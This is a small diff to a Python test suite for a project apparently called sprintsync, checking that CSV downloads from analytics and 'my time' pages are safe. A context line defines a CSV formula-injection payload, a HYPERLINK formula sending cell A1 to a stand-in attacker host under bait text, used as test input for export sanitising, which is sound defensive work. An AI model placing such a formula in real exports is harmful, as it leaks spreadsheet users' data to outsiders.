@@ -16,7 +16,7 @@ from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from sprintsync.exports import FORMULA_STARTS, csv_text, spreadsheet_safe
 from sprintsync.services import tasks, timelog, users
 from sprintsync.ui.parts.analytics import SECTION_KEY, SECTIONS
-from tests.ui.page_runner import open_page
+from tests.ui.page_runner import open_page, with_week_charts_open
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'
@@ -103,7 +103,7 @@ def test_every_analytics_download_is_safe(hostile, manager, downloads):
 
 
 def test_the_my_time_downloads_are_safe(hostile, downloads):
-    at = open_page("my_time.py", hostile)
+    at = with_week_charts_open(open_page("my_time.py", hostile))
     for csv in served(at, downloads):
         assert_safe(csv)
 
